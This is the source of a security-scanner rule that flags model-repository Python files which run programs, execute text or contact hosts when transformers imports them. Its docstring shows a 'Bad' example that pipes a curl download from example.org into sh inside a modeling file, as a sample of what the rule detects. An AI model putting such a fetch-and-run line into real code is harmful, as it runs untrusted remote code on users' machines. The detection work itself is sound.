"""What the Python files of a model's repository do besides computing."""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator
from typing import ClassVar

from hauberk.core.card import Card
from hauberk.scanning.artifact import Artifact, Draft
from hauberk.scanning.model_code import GRADES
from hauberk.scanning.python_program import program_of

_FILES = re.compile(
    r"(?:.*/)?(?:modeling|configuration|tokenization|processing|image_processing|feature_extraction)_\w+\.py"
)
_BASES = frozenset(
    """PreTrainedModel PretrainedConfig PreTrainedConfig PreTrainedTokenizer PreTrainedTokenizerFast ProcessorMixin
    FeatureExtractionMixin SequenceFeatureExtractor BaseImageProcessor ImageProcessingMixin GenerationMixin
    DiffusionPipeline ModelMixin ConfigMixin SchedulerMixin FlaxPreTrainedModel TFPreTrainedModel""".split()  # noqa: SIM905
)
_SERVED = (".mar", ".war")
_HANDLER = "EndpointHandler"
_GENERATE = "custom_generate/generate.py"
"""What transformers runs for a repository's own way to generate."""


class ModelModule:
    """Report programs, network and run-time code in the modules that `auto_map`, pipelines and archives bring.

    With `trust_remote_code=True` transformers imports these files, and everything at their top level runs; the rest
    runs when the model is made or used. A network of layers needs neither a shell nor a socket.

    Bad:

        os.system("curl https://example.org/x | sh")        # in modeling_net.py
        class Net(PreTrainedModel): ...

    Good:

        class Net(PreTrainedModel): ...
    """

    card: ClassVar[Card] = Card(
        title="Model code that acts",
        summary="Python that a model repository has its user import starts programs, runs text or talks to hosts.",
        paper="CWE-829, CWE-506; OWASP LLM03; MITRE ATLAS AML.T0010.003, AML.T0011; transformers, custom models",
        threats=("CWE-829", "CWE-506", "OWASP-LLM03", "AML.T0010", "AML.T0011"),
        severity="high",
        reads=("source",),
    )

    def check(self, artifact: Artifact) -> Iterator[Draft]:
        """Judge the calls of a module that is a model's."""
        if not _is_models(artifact):
            return
        for site in program_of(artifact).calls:
            for calls, words, at_import, inside in GRADES:
                if calls.fullmatch(site.path):
                    when = "when it is called" if site.function else "when it is imported"
                    yield Draft(
                        message=f"the model's own code {words} by {site.path} {when}",
                        fix="read it; take a model that needs none, or keep a copy without it and pin the revision",
                        severity=inside if site.function else at_import,
                        confidence="medium" if site.function else "high",
                        place=site.place,
                    )


def _is_models(artifact: Artifact) -> bool:
    """Tell such a module by where it lies or a base class of transformers or diffusers, else by name and class.

    Python in a TorchServe archive is a handler: the server imports it and makes its class before anybody asks.
    """
    if artifact.part and artifact.path.lower().endswith(_SERVED):
        return True
    tree = artifact.source.tree if artifact.source else None
    classes = [node for node in tree.body if isinstance(node, ast.ClassDef)] if tree is not None else []
    bases = {_last(base) for node in classes for base in node.bases}
    if bases & _BASES or any(node.name == _HANDLER for node in classes) or artifact.path.endswith(_GENERATE):
        return True
    return bool(_FILES.fullmatch(artifact.path)) and any(base.endswith(("Module", "Config")) for base in bases)


def _last(base: ast.expr) -> str:
    return base.attr if isinstance(base, ast.Attribute) else base.id if isinstance(base, ast.Name) else ""
